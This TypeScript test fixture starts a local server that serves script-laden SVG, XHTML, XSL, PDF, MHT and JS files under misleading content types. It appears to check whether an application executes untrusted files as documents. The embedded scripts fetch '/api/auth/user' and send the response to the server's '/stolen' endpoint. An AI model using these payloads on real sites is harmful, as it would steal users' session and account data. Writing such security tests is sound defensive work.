import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface HostileServer {
  url: string;
  /** What scripts in its files sent to it. */
  stolen: string[];
  close: () => void;
}

const script = (home: string) =>
  `try{localStorage.setItem('ran',location.pathname)}catch(e){};document.title='ran';new Image().src='${home}/stolen?ran';` +
  `fetch('/api/auth/user').then(r=>r.text()).then(t=>{new Image().src='${home}/stolen?'+encodeURIComponent(t)})`;

/**
 * For each extension a file with a script that runs if a browser treats the file as a document, and the type that
 * would make it do so.
 */
function fileOf(extension: string, home: string): [type: string, body: string] {
  const code = script(home);
  const page = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${code}</script></head><body onload="1"/></html>`;
  switch (extension) {
    case 'svg':
      return [
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script></svg>`,
      ];
    case 'xml':
    case 'xhtml':
    case 'xht':
      return ['application/xhtml+xml', page];
    case 'xsl':
      return ['text/xsl', page];
    case 'pdf':
      return ['application/pdf', `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${code})>>>>endobj`];
    case 'mht':
      return ['multipart/related', `MIME-Version: 1.0\nContent-Type: text/html\n\n${page}`];
    case 'js':
    case 'mjs':
      return ['text/html', `/*${page}*/ ${code}`];
    default:
      // Any type that a guessing browser treats as text.
      return ['text/html', page];
  }
}

/** A development server that serves hostile files with false types. */
export async function startHostileServer(): Promise<HostileServer> {
  const stolen: string[] = [];
  const server = createServer((request, response) => {
    const path = request.url ?? '';
    if (path.startsWith('/stolen')) stolen.push(path);
    const [type, body] = fileOf(/\.(\w+)$/.exec(path)?.[1] ?? '', home);
    response.writeHead(path.endsWith('release.json') ? 404 : 200, { 'content-type': type }).end(body);
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const home = `http://localhost:${(server.address() as AddressInfo).port}`;
  return {
    url: home,
    stolen,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
